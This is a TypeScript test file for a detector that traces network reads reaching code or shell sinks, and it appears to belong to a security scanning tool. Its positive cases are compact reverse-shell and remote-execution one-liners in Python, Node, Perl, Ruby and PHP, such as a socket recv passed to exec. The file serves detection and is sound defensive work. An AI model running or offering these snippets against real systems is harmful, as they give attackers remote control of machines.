// Why: proves the data-flow heuristic behind cmd_inline_socket_exec (src/detect/command/inline-received.ts and
// inline-net-reads.ts) on the tokenizer's real output: a network read reaching a code or command sink is found
// through calls, names, callbacks and aliases; reads of files, child processes and stdin are not network reads; and a
// received value given to a program as one of its arguments is data, not a command.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeInline } from '../src/detect/command/inline.js';
import { receivedExec } from '../src/detect/command/inline-received.js';

const rx = (lang: string, code: string): string | undefined => {
  const r = receivedExec(analyzeInline(code, lang).normalized, lang);
  return r ? `${r.sink} ← ${r.source}` : undefined;
};

test('a network read that reaches a sink is found, and named', () => {
  assert.match(rx('python', 'import socket\ns=socket.create_connection(("10.0.0.1",4444))\nexec(s.recv(999))') ?? '', /^exec ← (s\.)?recv/);
  assert.equal(rx('python', 'import socket,zlib\ns=socket.socket()\ns.connect(("h",1))\nd=s.recv(9)\nwhile len(d)<9: d+=s.recv(9)\nexec(zlib.decompress(d))'), 'exec ← d');
  assert.match(rx('python', 'import socket,subprocess as q\ns=socket.create_connection(("h",1))\nwhile 1: s.send(q.check_output(s.recv(99),shell=True))') ?? '', /check_output/);
  assert.ok(rx('node', 'require("net").connect(1,"h").on("data",d=>eval(String(d)))'));
  assert.ok(rx('node', 'const s=require("net").connect(1,"h");require("readline").createInterface({input:s}).on("line",l=>require("child_process").execSync(l))'));
  assert.ok(rx('perl', 'use IO::Socket;$s=IO::Socket::INET->new("h:1");while(<$s>){print $s `$_`}'));
  assert.ok(rx('perl', 'use IO::Socket;$s=IO::Socket::INET->new("h:1");while(defined($c=$s->getline)){system($c)}'));
  assert.ok(rx('ruby', 'c=TCPSocket.new("h",1);while(l=c.gets);c.print `#{l}`;end'));
  assert.ok(rx('php', '$s=fsockopen("h",1);while($c=fgets($s)){fwrite($s,shell_exec($c));}'));
  assert.ok(rx('python', 'import asyncio\nasync def h(r,w):\n  c=(await r.readline()).decode()\n  await asyncio.create_subprocess_shell(c)\nasyncio.run(asyncio.start_server(h,"0.0.0.0",1))'));
  assert.ok(rx('python', 'import socket,subprocess\ns=socket.create_connection(("h",1))\nsubprocess.run(["/bin/sh","-c",s.recv(99)])'), 'the code after a shell\'s -c');
  assert.ok(rx('node', 'const cp=require("child_process");require("net").connect(1,"h").on("data",d=>cp.execFile("/usr/bin/env",["python3","-c",String(d)]))'), 'through env');
});

test('reads of files, child processes and stdin are not network reads', () => {
  assert.equal(rx('python', 'import socket,subprocess\nwith open("cmds.txt") as f: cmds=f.read().splitlines()\ns=socket.create_connection(("db",5432)); s.close()\nfor c in cmds: subprocess.run(c,shell=True)'), undefined);
  assert.equal(rx('python', 'import socket,subprocess\np=subprocess.Popen(["./server"],stdout=subprocess.PIPE)\nport=p.stdout.readline()\ns=socket.create_connection(("127.0.0.1",int(port)))\nos.system("curl localhost:"+port)'), undefined);
  assert.equal(rx('node', 'const {spawn,execSync}=require("child_process");const net=require("net");const srv=spawn("node",["s.js"]);srv.stdout.on("data",d=>execSync("curl localhost:"+String(d)))'), undefined);
  assert.equal(rx('perl', 'use IO::Socket::INET;my $s=IO::Socket::INET->new("db:5432");close $s;open(my $fh,"<","t.txt");while(<$fh>){system($_)}'), undefined);
  assert.equal(rx('python', 'import socket,sys\ns=socket.create_connection(("h",1))\nexec(sys.stdin.readline())'), undefined);
});

test('a received value given to a program as an argument is data', () => {
  assert.equal(rx('python', 'import socket,subprocess\ns=socket.create_connection(("ci",9))\njob=s.recv(64).decode()\nsubprocess.run(["make",job])'), undefined);
  assert.equal(rx('node', 'const s=require("net").connect(1,"h");s.on("data",d=>require("child_process").execFileSync("git",["checkout",String(d)]))'), undefined);
  assert.equal(rx('python', 'import socket,json\ns=socket.create_connection(("h",1))\nprint(json.loads(s.recv(99)))\nexec("x=1")'), undefined, 'a literal is not what was read');
});
